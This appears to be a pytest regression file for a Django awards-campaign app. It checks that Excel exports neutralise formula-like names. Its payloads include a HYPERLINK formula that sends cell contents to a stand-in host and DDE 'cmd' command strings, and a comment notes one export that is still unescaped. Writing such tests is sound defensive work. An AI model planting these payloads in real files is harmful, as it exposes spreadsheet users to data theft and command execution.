"""Issue 15, exports: a name that starts like a formula (a unit named
`=HYPERLINK(...)`) must reach Excel as text, in every workbook a page exports: the
campaign results (theo dõi), the campaign's awards page, and the award statistics.
"""

from __future__ import annotations

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from awards.models import AwardType
from campaigns.models import ReportPeriod
from campaigns.results import services
from tests.factories import nominate, still_running
from units.models import Membership, Unit

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
PAYLOADS = {
    "unit": LINK,
    "criterion": "+1+cmd|' /C calc'!A0",
    "bloc": "@SUM(1+1)*cmd|' /C calc'!A0",
    "award": "=1+2+cmd|' /C calc'!A0",
}


def cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_inert(content: bytes, *expected: str) -> None:
    found = cells(content)
    formulas = [cell.value for cell in found if cell.data_type == "f"]
    assert formulas == []
    texts = [cell.value for cell in found if isinstance(cell.value, str)]
    for payload in expected:
        assert "'" + payload in texts, payload  # kept, as text
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]


@pytest.fixture
def board(demo, demo_units, make_member):
    """A campaign with a registered unit, a criterion, a bloc and a score: each name a
    formula."""
    campaign = demo["000"]
    still_running(campaign)
    office = make_member("nv.td", campaign.issuer, Membership.Role.OFFICE_STAFF)
    unit = demo_units["ubnd-x-binh-lu"]
    Unit.objects.filter(pk=unit.pk).update(name=PAYLOADS["unit"])
    unit.refresh_from_db()
    staff = make_member("cb.bl", unit, Membership.Role.UNIT_STAFF)
    criterion = services.criterion_add(
        actor=office,
        campaign=campaign,
        name=PAYLOADS["criterion"],
        kind="numeric",
        target=Decimal(100),
    )
    period = ReportPeriod.objects.create(
        campaign=campaign, kind="final", due_on=timezone.localdate() + datetime.timedelta(days=5)
    )
    services.registration_submit(
        actor=staff, campaign=campaign, unit=unit, targets={criterion.pk: Decimal(110)}
    )
    services.report_save(
        actor=staff,
        period=period,
        unit=unit,
        values={criterion.pk: (Decimal(120), "")},
        submit=True,
    )
    bloc = services.bloc_create(
        actor=office,
        issuer=campaign.issuer,
        year=2025,
        name=PAYLOADS["bloc"],
        head=unit,
        members=[demo_units["ubnd-x-son-binh"]],
    )
    services.score_enter(
        actor=staff, campaign=campaign, bloc=bloc, unit=unit, kind="agreed", points=Decimal(95)
    )
    return {"campaign": campaign, "office": office}


def test_the_results_export_writes_names_as_text(client, board):
    client.force_login(board["office"])
    url = reverse("tracking:campaign_results", args=[board["campaign"].pk])
    response = client.get(url, {"xuat": "xlsx"})
    assert response.status_code == 200
    assert_inert(response.content, PAYLOADS["unit"], PAYLOADS["criterion"], PAYLOADS["bloc"])


def test_the_campaign_awards_export_writes_names_as_text(client, board, cycle):
    # (Its "Khen thưởng" sheet lists award types through sheet.append in
    # awards/dashboard.py, which escapes nothing: an award type named "=…" is still
    # written as a formula there: reported with issue 15, not fixed in this change.)
    nominate(cycle, person=cycle["people"][0], campaign=board["campaign"])
    client.force_login(board["office"])
    url = reverse("awards:campaign_awards", args=[board["campaign"].pk])
    response = client.get(url, {"xuat": "xlsx"})
    assert response.status_code == 200
    assert_inert(response.content, PAYLOADS["unit"], PAYLOADS["criterion"], PAYLOADS["bloc"])


def test_the_statistics_export_writes_names_as_text(client, demo, demo_units, make_member):
    from awards.demo import load_demo_cycle
    from units.demo import load_demo_users

    load_demo_users(demo_units)
    load_demo_cycle()
    Unit.objects.filter(code="ubnd-x-san-thang").update(name=PAYLOADS["unit"])
    AwardType.objects.filter(code="lao-dong-tien-tien").update(name=PAYLOADS["award"])
    client.force_login(
        make_member("nv.tp", demo_units["ubnd-tp-lai-chau"], Membership.Role.OFFICE_STAFF)
    )
    response = client.get(reverse("awards:statistics"), {"xuat": "xlsx"})
    assert response.status_code == 200
    assert_inert(response.content, PAYLOADS["award"])
